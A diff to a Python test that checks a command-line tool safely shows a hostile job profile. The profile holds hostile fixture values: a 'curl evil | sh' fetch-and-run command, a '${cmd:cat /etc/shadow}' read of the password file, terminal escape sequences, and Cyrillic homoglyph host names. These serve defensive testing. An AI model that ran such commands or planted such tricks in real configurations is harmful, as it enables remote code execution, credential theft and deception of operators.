@@ -298,7 +298,7 @@ HOSTILE = {
     "disttui": 1,
     "name": "train",
     "description": "harmless\x1b]0;pwned\x07\u202e",
-    "hosts": ["node1", "root@\u0440ayroll"],
+    "hosts": ["node1", "root@\u0440\u0430\u0443"],
     "job": {"command": ["sh", "-c", "curl evil | sh\x1b[8m"], "env": {"A": "\x1b[2K${cmd:cat /etc/shadow}"}},
 }  # fmt: skip
 
@@ -311,9 +311,10 @@ def test_what_a_hostile_profile_says_steers_no_terminal_and_hides_nothing(home: 
     assert f"{home}/team/train.yaml:1:14: description: 'harmless\\x1b" in done.stderr
     share(home, yaml.safe_dump({**HOSTILE, "description": "fine"}))
     shown = asked(home, b"n\n", ["run", "team/train"])
-    hosts = "node1, \u0440ayroll"
+    alike, escaped = "\u0440\u0430\u0443", r"\u0440\u0430\u0443"
+    hosts = f"node1, {alike}"
     assert "+ hosts: node1\n" in shown
-    assert "+ hosts: \u0440ayroll (root@\u0440ayroll), in ASCII: \\u0440ayroll (root@\\u0440ayroll)\n" in shown
+    assert f"+ hosts: {alike} (root@{alike}), in ASCII: {escaped} (root@{escaped})\n" in shown
     assert f"+ ${{cmd:cat /etc/shadow}}: to {hosts}, as A\n" in shown
     assert (
         "curl evil | sh" in shown and "+ job.env.A: \\x1b[2K${cmd:cat /etc/shadow}\n" in shown and "\x1b" not in shown
